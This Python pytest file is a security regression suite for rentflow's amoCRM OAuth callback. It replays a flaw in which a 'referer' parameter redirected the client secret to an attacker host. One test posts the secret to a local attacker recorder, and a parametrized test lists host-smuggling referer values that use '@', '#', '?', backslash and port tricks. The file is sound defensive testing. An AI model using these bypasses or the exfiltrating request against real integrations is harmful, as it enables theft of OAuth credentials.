"""Break 1 of issue 14, replayed as found: ``GET /amocrm/oauth?code=x&referer=<any host>``
posted ``client_id`` + ``client_secret`` to ``https://<referer>/oauth2/access_token``. The
attacker's host here is real HTTPS on 127.0.0.1 with a certificate ``requests`` trusts: a
leak would be recorded. rentflow runs in production mode (sandbox off, no AMOCRM_BASE_URL
trusted)."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest
import requests
from flask.testing import FlaskClient

from backend.bootstrap import Container, bootstrap
from backend.config import Settings
from backend.ports import FixedClock
from backend.services.installation import refresh_idle
from backend.services.portals import install_portal
from backend.web.app import create_app
from crm_mappings.amocrm.signing import issue_state
from crm_mappings.port import CrmError
from crm_mappings.tokens import OAuthTokens
from tests.security.amocrm_world import SECRET, Recorder, attacker

__all__ = ["attacker"]  # a fixture


@pytest.fixture
def production(
    settings: Settings, clock: FixedClock, attacker: Recorder
) -> Iterator[tuple[Container, FlaskClient]]:
    """rentflow as deployed: sandbox off, the real secret, and even an AMOCRM_BASE_URL naming
    the attacker (honoured only by the sandbox)."""
    real = settings.with_(
        sandbox=False,
        amocrm_client_id="4f1d5e8a-integration",
        amocrm_client_secret=SECRET,
        amocrm_base_url=attacker.url,
        public_base_url="https://rentflow.example",
    )
    container = bootstrap(real, clock=clock)
    yield container, create_app(container=container).test_client()
    container.dispose()


def _portals(container: Container) -> int:
    with container.uow() as uow:
        return len(uow.portals.list())


def test_the_attacker_host_records_the_request_the_old_callback_sent(attacker: Recorder) -> None:
    # what rentflow used to do with referer=<attacker>: the bench catches it
    requests.post(
        f"https://{attacker.host}/oauth2/access_token",
        json={"client_id": "4f1d5e8a-integration", "client_secret": SECRET, "code": "x"},
        timeout=10,
    )
    assert len(attacker.carrying_secret()) == 1


@pytest.mark.parametrize(
    "referer",
    [
        "{host}",
        "acme.amocrm.ru@{host}",
        "{host}/acme.amocrm.ru",
        "{host}#.amocrm.ru",
        "{host}?x=.amocrm.ru",
        "{host}\\.amocrm.ru",
        "acme.amocrm.ru:{port}",
        "acme.amocrm.ru.{host}",
    ],
)
def test_a_callback_naming_another_host_sends_the_secret_nowhere(
    production: tuple[Container, FlaskClient], attacker: Recorder, referer: str
) -> None:
    container, web = production
    host, port = attacker.host, attacker.host.rsplit(":", 1)[1]
    named = referer.format(host=host, port=port)
    state = issue_state(container.settings.secret_key, container.clock.now())
    as_found = web.get("/amocrm/oauth", query_string={"code": "x", "referer": named})
    with_state = web.get(
        "/amocrm/oauth", query_string={"code": "x", "referer": named, "state": state}
    )
    from_widget = web.get(
        "/amocrm/oauth", query_string={"code": "x", "referer": named, "from_widget": "1"}
    )
    assert as_found.status_code == 403  # no state: not the documented flow
    assert (with_state.status_code, from_widget.status_code) == (400, 400)
    assert attacker.seen == []
    assert _portals(container) == 0


@pytest.mark.parametrize(
    "state",
    ["", "forged.1769904000.00", "{expired}", "{other_key}"],
    ids=["missing", "forged", "expired", "signed-by-another-rentflow"],
)
def test_an_install_without_a_live_state_of_ours_is_refused_before_any_request(
    production: tuple[Container, FlaskClient], state: str
) -> None:
    container, web = production
    now = container.clock.now()
    given = state.format(
        expired=issue_state(container.settings.secret_key, now - timedelta(minutes=21)),
        other_key=issue_state("another-rentflow-secret-key", now),
    )
    answer = web.get(
        "/amocrm/oauth",
        query_string={"code": "x", "referer": "acme.amocrm.ru", "state": given},
    )
    assert answer.status_code == 403
    assert _portals(container) == 0


def _legacy_portal(container: Container, base_url: str) -> int:
    """A portal the old callback stored with the attacker's host as its API base."""
    with container.uow() as uow:
        portal = install_portal(uow, container.clock, kind="amocrm", external_id="31000001")
        uow.commit()
    assert portal.id is not None
    container.token_store(portal.id).save(
        OAuthTokens("acc", "ref", container.clock.now() + timedelta(hours=1),
                    {"base_url": base_url})
    )  # fmt: skip
    return portal.id


def test_a_portal_stored_with_a_foreign_host_never_sends_it_a_secret(
    production: tuple[Container, FlaskClient], attacker: Recorder
) -> None:
    container, _web = production
    portal_id = _legacy_portal(container, attacker.url)
    # the hourly job: the token ends within 12 h
    refreshed = refresh_idle(container.install_ports(), "amocrm")
    with container.uow() as uow:
        portal = uow.portals.get(portal_id)
    failures: list[Any] = []
    try:
        container.crm(portal).list_pipelines()  # an API call with the Bearer token
    except CrmError as exc:
        failures.append(exc)
    assert refreshed == 0
    assert len(failures) == 1
    assert attacker.seen == []
